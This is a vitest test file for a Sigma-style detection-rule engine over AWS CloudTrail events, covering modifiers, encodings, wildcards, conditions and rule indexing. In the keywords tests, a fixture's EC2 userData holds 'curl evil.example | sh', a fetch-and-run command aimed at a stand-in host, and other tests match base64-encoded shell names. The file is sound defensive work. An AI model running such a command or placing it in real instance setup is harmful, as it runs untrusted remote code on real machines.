import { describe, expect, it } from 'vitest';
import { indexRules } from './index-rules.ts';
import { readRule } from './read-rule.ts';

const placeholders = { admins: ['root', 'adm_*'], pair: ['one', 'two'] };

function rule(detection: Record<string, unknown>, facts: Record<string, unknown> = {}) {
  const found = readRule('test/rule', { title: 'A rule', logsource: { product: 'aws', service: 'cloudtrail' }, detection, ...facts }, placeholders);
  if (found.kind !== 'rule') throw new Error(`a rule was expected, not ${found.kind}`);
  return found.rule;
}

function matches(selection: unknown, event: Record<string, unknown>): boolean {
  return rule({ selection, condition: 'selection' }).matches(event);
}

type Case = [string, unknown, Record<string, unknown>, boolean];

describe('a field of a selection', () => {
  it.each<Case>([
    ['equals without regard to case', { eventName: 'stoplogging' }, { eventName: 'StopLogging' }, true],
    ['differs', { eventName: 'StopLogging' }, { eventName: 'StartLogging' }, false],
    ['is one of several', { eventName: ['A', 'B'] }, { eventName: 'b' }, true],
    ['is none of several', { eventName: ['A', 'B'] }, { eventName: 'c' }, false],
    ['needs every field', { eventName: 'A', awsRegion: 'x' }, { eventName: 'A', awsRegion: 'y' }, false],
    ['equals a number', { n: 5 }, { n: 5 }, true],
    ['equals a number written as text', { n: 5 }, { n: '5' }, true],
    ['takes text for the number', { n: '5' }, { n: 5 }, true],
    ['equals a boolean', { b: true }, { b: true }, true],
    ['equals a boolean written as text', { b: true }, { b: 'True' }, true],
    ['takes the text true for the boolean', { b: 'true' }, { b: true }, true],
    ['takes an empty text for an empty text', { a: '' }, { a: '' }, true],
    ['does not take an empty text for a missing one', { a: '' }, {}, false],
    ['is not fooled by what every object inherits', { 'constructor|exists': true }, {}, false],
    ['reads a record that was flattened before', { 'userIdentity.type': 'Root' }, { 'userIdentity.type': 'Root' }, true],
  ])('%s', (_name, selection, event, expected) => {
    expect(matches(selection, event)).toBe(expected);
  });
});

describe('a path', () => {
  it.each<Case>([
    ['descends objects', { 'requestParameters.name': 'main' }, { requestParameters: { name: 'main' } }, true],
    ['fans out over lists', { 'a.b.c': 'x' }, { a: [{ b: { c: 'w' } }, { b: { c: 'x' } }] }, true],
    ['fans out over a list of values', { a: 'x' }, { a: ['w', 'x'] }, true],
    ['finds nothing in an empty list', { a: 'x' }, { a: [] }, false],
    ['goes through lists of lists', { 'a.b': 'x' }, { a: [[{ b: 'x' }]] }, true],
    ['sees a whole object as its compact JSON', { 'p|contains': '"k":1' }, { p: { k: 1 } }, true],
    ['sees a whole list as its compact JSON', { 'p|contains': '["a","b"]' }, { p: ['a', 'b'] }, true],
    ['takes a map below a field for one object', { a: { b: '1', c: '2' } }, { a: { b: '1', c: '2' } }, true],
    ['does not join two objects of a list', { a: { b: '1', c: '2' } }, { a: [{ b: '1' }, { c: '2' }] }, false],
    ['takes any of several maps below a field', { a: [{ b: '1' }, { b: '2' }] }, { a: { b: '2' } }, true],
  ])('%s', (_name, selection, event, expected) => {
    expect(matches(selection, event)).toBe(expected);
  });
});

describe('wildcards and escapes', () => {
  it.each<Case>([
    ['match anything', { eventName: 'Put*Policy' }, { eventName: 'PutUserPolicy' }, true],
    ['are anchored', { eventName: 'Put*' }, { eventName: 'InPut' }, false],
    ['match one character', { p: 'a?c' }, { p: 'abc' }, true],
    ['match no fewer than one', { p: 'a?c' }, { p: 'ac' }, false],
    ['match across lines', { p: 'a*c' }, { p: 'a\nc' }, true],
    ['leave other characters literal', { p: 'a.c*' }, { p: 'abcd' }, false],
    ['a lone star is any value', { p: '*' }, { p: 7 }, true],
    ['a lone star is no null', { p: '*' }, { p: null }, false],
    ['an escaped star is a star', { p: String.raw`\*` }, { p: '*' }, true],
    ['an escaped star is nothing else', { p: String.raw`\*` }, { p: 'anything' }, false],
    ['an escaped question mark is one', { p: String.raw`a\?` }, { p: 'a?' }, true],
    ['a plain backslash is itself', { p: String.raw`C:\Windows` }, { p: String.raw`C:\Windows` }, true],
    ['a double backslash is one', { p: String.raw`C:\\Windows` }, { p: String.raw`C:\Windows` }, true],
    ['a backslash and a wildcard', { p: String.raw`C:\\*` }, { p: String.raw`C:\Windows` }, true],
    ['a backslash and a star', { p: String.raw`a\\\*` }, { p: String.raw`a\*` }, true],
    ['stand inside contains', { 'p|contains': 'a*c' }, { p: 'xxabcxx' }, true],
  ])('%s', (_name, selection, event, expected) => {
    expect(matches(selection, event)).toBe(expected);
  });
});

describe('a modifier', () => {
  it.each<Case>([
    ['startswith', { 'p|startswith': 'arn:' }, { p: 'ARN:aws' }, true],
    ['startswith, elsewhere', { 'p|startswith': 'aws' }, { p: 'ARN:aws' }, false],
    ['endswith', { 'p|endswith': '/Admin' }, { p: 'x/admin' }, true],
    ['contains', { 'p|contains': 'min' }, { p: 'admin' }, true],
    ['contains, of a number', { 'p|contains': 44 }, { p: 8443 }, true],
    ['contains all', { 'p|contains|all': ['a', 'z'] }, { p: 'abc' }, false],
    ['contains all, all there', { 'p|contains|all': ['a', 'c'] }, { p: 'abc' }, true],
    ['all of a list of values', { 'p|all': ['a', 'b'] }, { p: ['b', 'a', 'c'] }, true],
    ['cased', { 'p|cased': 'Admin' }, { p: 'admin' }, false],
    ['cased contains', { 'p|contains|cased': 'Adm' }, { p: 'an Admin' }, true],
    ['exists', { 'errorCode|exists': true }, { errorCode: 'x' }, true],
    ['exists, being null', { 'errorCode|exists': true }, { errorCode: null }, true],
    ['exists not', { 'errorCode|exists': false }, { errorCode: 'x' }, false],
    ['exists not, in words', { 'a.b|exists': 'false' }, { a: {} }, true],
    ['neq', { 'p|neq': 'a' }, { p: 'b' }, true],
    ['neq of the same', { 'p|neq': 'a' }, { p: 'A' }, false],
    ['neq of several', { 'p|neq': ['a', 'b'] }, { p: 'b' }, false],
    ['neq of a missing field', { 'p|neq': 'a' }, {}, true],
    ['neq of a number', { 'p|neq': 5 }, { p: 6 }, true],
    ['lt', { 'p|lt': 5 }, { p: 4 }, true],
    ['lte', { 'p|lte': 5 }, { p: '5' }, true],
    ['gt', { 'p|gt': 5 }, { p: 5 }, false],
    ['gte', { 'p|gte': 5.5 }, { p: 5.5 }, true],
    ['gt of a missing field', { 'p|gt': -1 }, {}, false],
    ['gt of what is no number', { 'p|gt': 1 }, { p: 'many' }, false],
    ['null for missing', { errorCode: null }, {}, true],
    ['null for null', { errorCode: null }, { errorCode: null }, true],
    ['null for a value', { errorCode: null }, { errorCode: 'x' }, false],
    ['null among values', { errorCode: [null, 'x'] }, { errorCode: 'x' }, true],
    ['fieldref', { 'a|fieldref': 'b.c' }, { a: 'X', b: { c: 'x' } }, true],
    ['fieldref of a missing field', { 'a|fieldref': 'b' }, { a: 'x' }, false],
    ['fieldref with endswith', { 'a|endswith|fieldref': 'b' }, { a: 'user/mallory', b: 'mallory' }, true],
    ['fieldref with neq', { 'a|fieldref|neq': 'b' }, { a: '1', b: '2' }, true],
    ['cidr', { 'ip|cidr': '10.0.0.0/8' }, { ip: '10.200.3.4' }, true],
    ['cidr, outside', { 'ip|cidr': ['10.0.0.0/8', '192.168.0.0/16'] }, { ip: '11.0.0.1' }, false],
    ['cidr of version 6', { 'ip|cidr': '2001:db8::/32' }, { ip: '2001:db8:1::1' }, true],
    ['cidr of a host name', { 'ip|cidr': '0.0.0.0/0' }, { ip: 'ec2.amazonaws.com' }, false],
    ['expand to values', { 'p|expand': '%admins%' }, { p: 'ADM_7' }, true],
    ['expand within a text', { 'p|expand': 'x-%pair%-y' }, { p: 'x-two-y' }, true],
    ['no expand, no placeholder', { p: '%admins%' }, { p: '%admins%' }, true],
    ['an escaped percent sign', { 'p|expand': String.raw`\%plain%pair%` }, { p: '%plainone' }, true],
  ])('%s', (_name, selection, event, expected) => {
    expect(matches(selection, event)).toBe(expected);
  });
});

describe('a regular expression', () => {
  it.each<Case>([
    ['minds case', { 'p|re': '^Ad' }, { p: 'admin' }, false],
    ['does not mind case with i', { 'p|re|i': '^Ad' }, { p: 'admin' }, true],
    ['takes its flags inside too', { 'p|re': '(?i)^Ad' }, { p: 'admin' }, true],
    ['ends at the end', { 'p|re': '^a$' }, { p: 'a\nb' }, false],
    ['ends at a line with m', { 'p|re|m': '^a$' }, { p: 'a\nb' }, true],
    ['stops its dot at a line', { 'p|re': 'a.b' }, { p: 'a\nb' }, false],
    ['goes on with s', { 'p|re|s': 'a.b' }, { p: 'a\nb' }, true],
    ['any of several', { 'p|re': ['^x', 'y$'] }, { p: 'any' }, true],
    ['takes a star for its own', { 'p|re': 'ab*c' }, { p: 'abbbc' }, true],
  ])('%s', (_name, selection, event, expected) => {
    expect(matches(selection, event)).toBe(expected);
  });
});

describe('an encoding', () => {
  const encoded = (text: string, before = '') => Buffer.from(before + text + '!!').toString('base64');
  it.each<Case>([
    ['base64', { 'p|base64': 'cmd.exe' }, { p: 'Y21kLmV4ZQ==' }, true],
    ['base64 within', { 'p|base64|contains': 'foobar' }, { p: `x${Buffer.from('foobar').toString('base64')}` }, true],
    ['base64offset at the start', { 'p|base64offset|contains': '/bin/bash' }, { p: encoded('/bin/bash') }, true],
    ['base64offset after one', { 'p|base64offset|contains': '/bin/bash' }, { p: encoded('/bin/bash', 'a') }, true],
    ['base64offset after two', { 'p|base64offset|contains': '/bin/bash' }, { p: encoded('/bin/bash', 'ab') }, true],
    ['base64offset of something else', { 'p|base64offset|contains': '/bin/bash' }, { p: encoded('/bin/tcsh', 'ab') }, false],
    ['wide base64', { 'p|wide|base64offset|contains': 'ping' }, { p: Buffer.from('xping', 'utf16le').toString('base64') }, true],
    ['utf16le base64', { 'p|utf16le|base64': 'ping' }, { p: 'cABpAG4AZwA=' }, true],
    ['utf16be base64', { 'p|utf16be|base64': 'ping' }, { p: 'AHAAaQBuAGc=' }, true],
    ['utf16 base64', { 'p|utf16|base64': 'ping' }, { p: '//5wAGkAbgBnAA==' }, true],
    ['wide alone', { 'p|wide': 'ab' }, { p: 'a\0b\0' }, true],
    ['windash', { 'p|windash|contains': ' -f' }, { p: 'x /F y' }, true],
    ['windash with a long dash', { 'p|windash|contains|all': ['-a', '-b'] }, { p: '\u2013a \u2015b' }, true],
    ['windash inside a word', { 'p|windash': 'a-b' }, { p: 'a/b' }, false],
  ])('%s', (_name, selection, event, expected) => {
    expect(matches(selection, event)).toBe(expected);
  });
});

describe('a part of a time', () => {
  const event = { eventTime: '2026-01-03T04:05:06Z' };
  it.each<[unknown, boolean]>([
    [{ 'eventTime|minute': 5 }, true],
    [{ 'eventTime|hour': [3, 4] }, true],
    [{ 'eventTime|hour': 5 }, false],
    [{ 'eventTime|hour|lt': 6 }, true],
    [{ 'eventTime|day': 3 }, true],
    [{ 'eventTime|week': 1 }, true],
    [{ 'eventTime|month': 1 }, true],
    [{ 'eventTime|year': 2026 }, true],
    [{ 'eventName|hour': 4 }, false],
  ])('%j is %s', (selection, expected) => {
    expect(matches(selection, event)).toBe(expected);
  });
});

describe('keywords', () => {
  const event = { eventName: 'RunInstances', requestParameters: { userData: 'curl evil.example | sh', tags: [{ key: 'team' }] } };
  it.each<[string, unknown, boolean]>([
    ['any of them', ['nothing', 'EVIL.example'], true],
    ['none of them', ['nothing', 'neither'], false],
    ['with a wildcard', ['curl*sh'], true],
    ['all of them', { '|all': ['curl', 'team'] }, true],
    ['all of them, one missing', { '|all': ['curl', 'nothing'] }, false],
    ['an expression', { '|re': 'evil\\.' }, true],
    ['a single one', 'curl', true],
    ['in a list with maps', [{ eventName: 'x' }, 'curl'], true],
    ['in the text of the record', ['"key":"team"'], true],
  ])('%s', (_name, selection, expected) => {
    expect(matches(selection, event)).toBe(expected);
  });
});

describe('a list of maps', () => {
  it('needs one of them', () => {
    expect(matches([{ a: '1' }, { b: '2' }], { b: '2' })).toBe(true);
    expect(matches([{ a: '1' }, { b: '2' }], { b: '1' })).toBe(false);
  });
});

const selections = { one: { a: '1' }, two: { b: '2' }, sel_x: { x: '1' }, sel_y: { y: '1' }, _hidden: { h: '1' } };

describe('a condition', () => {
  it.each<[string | string[], Record<string, unknown>, boolean]>([
    ['one and two', { a: '1', b: '2' }, true],
    ['one and two', { a: '1' }, false],
    ['one or two', { b: '2' }, true],
    ['one and not two', { a: '1' }, true],
    ['not one and not two', {}, true],
    ['one or two and sel_x', { a: '1' }, true],
    ['(one or two) and sel_x', { a: '1' }, false],
    ['not (one or two)', {}, true],
    ['not not one', { a: '1' }, true],
    ['1 of sel_*', { y: '1' }, true],
    ['any of sel_*', { y: '1' }, true],
    ['all of sel_*', { y: '1' }, false],
    ['all of sel_*', { x: '1', y: '1' }, true],
    ['1 of them', { h: '1' }, false],
    ['1 of _*', { h: '1' }, true],
    ['one and not 1 of sel_*', { a: '1' }, true],
    ['NOT one', {}, true],
    [['one', 'two'], { b: '2' }, true],
    [['one', 'two'], {}, false],
  ])('%s on %j is %s', (condition, event, expected) => {
    expect(rule({ ...selections, condition }).matches(event)).toBe(expected);
  });
});

describe('what the index leaves to ask', () => {
  it.each<[string, Record<string, unknown>]>([
    ['one and two', { one: { eventName: 'A' }, two: { p: 'x' } }],
    ['one and not two', { one: { 'eventName|startswith': 'A' }, two: { eventSource: 's' } }],
    ['not one', { one: { eventName: ['B', 'C'] } }],
    ['one or two', { one: { eventName: 'B' }, two: { 'eventName|re': '^A' } }],
    ['one', { one: { 'eventName|fieldref': 'p' } }],
    ['one', { one: ['A'] }],
  ])('answers %s of %j like the rule itself', (condition, named) => {
    const one = rule({ ...named, condition });
    const index = indexRules([one]);
    for (const eventName of ['A', 'B', 'a']) {
      for (const eventSource of ['s', 't']) {
        for (const p of ['x', 'A']) {
          const record = { eventName, eventSource, p };
          expect(index.bucket(eventSource, eventName).candidates.some((left) => left.matches(record))).toBe(one.matches(record));
        }
      }
    }
  });
});
